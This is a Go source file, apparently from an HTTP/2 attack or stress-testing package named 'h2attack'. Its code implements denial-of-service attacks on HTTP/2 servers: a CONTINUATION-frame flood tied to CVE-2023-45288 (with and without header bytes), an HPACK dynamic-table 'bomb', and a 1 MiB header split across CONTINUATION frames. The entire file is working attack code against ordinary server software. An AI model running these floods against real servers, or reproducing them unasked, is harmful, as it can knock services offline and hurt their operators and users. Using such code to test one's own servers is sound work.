package h2attack

import (
	"bytes"
	"context"
	"slices"
	"strings"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// ContinuationFlood sends headers that never end (CVE-2023-45288).
func ContinuationFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return continuation(ctx, dial, o, 1024)
}

// EmptyContinuationFlood is ContinuationFlood without a byte of headers, so that
// no limit on their size is ever reached.
func EmptyContinuationFlood(ctx context.Context, dial Dialer, o Options) (Result, error) {
	return continuation(ctx, dial, o, 0)
}

func continuation(ctx context.Context, dial Dialer, o Options, size int) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	w.sent(w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: w.request()}))
	w.repeat(func(i int) {
		w.head.Reset()
		if size > 0 {
			field := hpack.HeaderField{Name: "x", Value: strings.Repeat("x", size), Sensitive: true}
			_ = w.enc.WriteField(field)
		}
		w.sent(w.fr.WriteContinuation(1, false, w.head.Bytes()))
	})
	return w.finish()
}

// HPACKBomb puts one large field into the table that both sides keep (RFC 7541
// section 2.3.2) and then names it thousands of times with a byte each. Of Count
// streams it uses one in a hundred.
func HPACKBomb(ctx context.Context, dial Dialer, o Options) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	bomb := slices.Repeat([]hpack.HeaderField{{Name: "x-bomb", Value: strings.Repeat("x", 3900)}}, 8000)
	// From the second on they are all alike: the large field has taken the table for
	// itself. Made once, they cost this side nothing.
	w.call(true, bomb...)
	block := bytes.Clone(w.request(bomb...))
	w.o.Count = max(w.o.Count/100, 1)
	w.repeat(func(int) {
		w.sent(w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: w.next, BlockFragment: block, EndStream: true, EndHeaders: true}))
		w.next += 2
	})
	return w.finish()
}

// HugeHeaders sends a field of 1 MiB over HEADERS and CONTINUATION.
func HugeHeaders(ctx context.Context, dial Dialer, o Options) (Result, error) {
	w, err := open(ctx, dial, o)
	if err != nil {
		return Result{}, err
	}
	w.listen()
	// Bytes that Huffman's code does not shorten.
	block := w.request(hpack.HeaderField{Name: "x-huge", Value: strings.Repeat("\\", 1<<20), Sensitive: true})
	const frame = 16 << 10
	w.sent(w.fr.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: block[:frame]}))
	for block = block[frame:]; len(block) > 0 && w.err == nil; {
		n := min(frame, len(block))
		w.sent(w.fr.WriteContinuation(1, n == len(block), block[:n]))
		block = block[n:]
	}
	return w.finish()
}
